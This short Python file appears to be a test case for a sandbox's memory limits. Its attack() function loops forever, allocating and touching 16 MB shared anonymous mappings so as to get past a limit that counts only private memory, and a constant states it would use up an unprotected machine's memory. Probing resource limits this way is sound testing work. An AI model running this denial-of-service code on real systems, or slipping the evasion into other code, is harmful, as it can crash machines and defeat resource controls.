"""Fills shared mappings, which the limit on private memory does not count."""

CONTROL = "unprotected it would use up the machine's memory"
REACH = "one"

import mmap



def attack(*args, **kwargs):
    kept = []
    while True:
        piece = mmap.mmap(-1, 16 << 20)
        for page in range(0, 16 << 20, 4096):
            piece[page] = 1
        kept.append(piece)
